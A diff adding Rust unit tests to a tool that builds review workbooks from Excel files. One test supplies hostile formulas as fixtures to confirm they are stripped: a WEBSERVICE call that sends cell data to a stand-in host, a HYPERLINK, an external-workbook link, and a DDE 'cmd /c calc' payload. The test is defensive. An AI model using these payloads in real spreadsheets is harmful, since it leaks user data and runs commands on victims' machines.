@@ -1587,6 +1587,119 @@ mod tests {
         assert_eq!(unique_sheet_name("''", &mut taken), "Sheet");
     }
 
+    /// One checked file whose kept sheet holds `cells`.
+    fn one_sheet(cells: &[(&str, Value, Option<&str>)]) -> Vec<FileResult> {
+        let mut sheet = Sheet::new("M01");
+        for (at, v, f) in cells {
+            let at = CellRef::parse_a1(at).expect("a1");
+            sheet.cells.insert(
+                at,
+                crate::model::Cell {
+                    value: v.clone(),
+                    formula: f.map(str::to_string),
+                    fmt: NumFmt::default(),
+                },
+            );
+        }
+        vec![FileResult {
+            path: "a.xlsx".into(),
+            status: Status::Checked,
+            forms: vec![crate::check::FormFound {
+                sheet: "M01".into(),
+                form: "M01".into(),
+            }],
+            findings: vec![],
+            unit: crate::check::Unit {
+                name: Some("Chi bộ A".into()),
+                code: Some("TD-01".into()),
+            },
+            kept: vec![sheet],
+        }]
+    }
+
+    /// (every `<f>` of the worksheets, the notes' text, workbook.xml) of a review workbook.
+    fn read_back(bytes: &[u8]) -> (Vec<String>, String, String) {
+        use std::io::Read as _;
+        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("zip");
+        let (mut fs, mut notes, mut workbook) = (Vec::new(), String::new(), String::new());
+        for i in 0..zip.len() {
+            let mut f = zip.by_index(i).expect("entry");
+            let name = f.name().unwrap_or_default().to_string();
+            let mut text = String::new();
+            let _ = f.read_to_string(&mut text);
+            if name.starts_with("xl/worksheets/sheet") {
+                let mut rest = text.as_str();
+                while let Some(i) = rest.find("<f>") {
+                    let end = rest[i..].find("</f>").map_or(rest.len(), |e| i + e);
+                    fs.push(
+                        rest[i + 3..end]
+                            .replace("&quot;", "\"")
+                            .replace("&amp;", "&"),
+                    );
+                    rest = &rest[end..];
+                }
+            } else if name.starts_with("xl/comments") {
+                notes.push_str(&text.replace("&quot;", "\"").replace("&amp;", "&"));
+            } else if name == "xl/workbook.xml" {
+                workbook = text;
+            }
+        }
+        (fs, notes, workbook)
+    }
+
+    #[test]
+    fn dangerous_formulas_become_values_with_a_note() {
+        let t = |s: &str| Value::Text(s.to_string());
+        let results = one_sheet(&[
+            ("A1", Value::Number(3.0), Some("SUM(B1:B2)")),
+            ("A2", t("leak"), Some("_xlfn.WEBSERVICE(\"http://x/?\"&B1)")),
+            ("A3", t("leak2"), Some("HYPERLINK(\"http://x\",\"go\")")),
+            ("A4", Value::Number(1.0), Some("[1]Sheet1!A1")),
+            ("A5", Value::Number(1.0), Some("cmd|' /c calc'!A0")),
+            ("B1", Value::Number(1.0), None),
+            ("B2", Value::Number(2.0), None),
+        ]);
+        let bytes = review_workbook(&results, &ReviewOptions::default()).expect("built");
+        let (fs, notes, workbook) = read_back(&bytes);
+        assert_eq!(fs, vec!["SUM(B1:B2)".to_string()]);
+        for f in [
+            "=_xlfn.WEBSERVICE(\"http://x/?\"&B1)",
+            "=HYPERLINK(\"http://x\",\"go\")",
+            "=[1]Sheet1!A1",
+            "=cmd|' /c calc'!A0",
+        ] {
+            assert!(notes.contains(f), "{f}");
+        }
+        assert!(notes.contains("Formula not kept: it calls _xlfn.WEBSERVICE"));
+        assert!(notes.contains("Formula not kept: it is a DDE link"));
+        // Every kept formula is pure: the recalculation on load is allowed.
+        assert!(workbook.contains("fullCalcOnLoad"));
+    }
+
+    #[test]
+    fn long_cell_text_is_cut_with_a_note() {
+        let results = one_sheet(&[("A1", Value::Text("é".repeat(40_000)), None)]);
+        let bytes = review_workbook(&results, &ReviewOptions::default()).expect("built");
+        let (_, notes, _) = read_back(&bytes);
+        assert!(notes.contains("This text has 40,000 characters"), "{notes}");
+    }
+
+    #[test]
+    fn cells_beyond_the_grid_are_left_out_and_said_so() {
+        let mut results = one_sheet(&[("B2", Value::Number(1.0), None)]);
+        for at in [CellRef::new(2_000_000, 0), CellRef::new(0, 20_000)] {
+            results[0].kept[0]
+                .cells
+                .insert(at, crate::model::Cell::value(Value::Number(2.0)));
+        }
+        let bytes = review_workbook(&results, &ReviewOptions::default()).expect("built");
+        let (_, notes, _) = read_back(&bytes);
+        assert!(
+            notes.contains("2 cell(s) of this sheet lie beyond"),
+            "{notes}"
+        );
+    }
+
     #[test]
     fn lang_from_pack() {
         assert_eq!(Lang::from_pack("vi"), Lang::Vi);
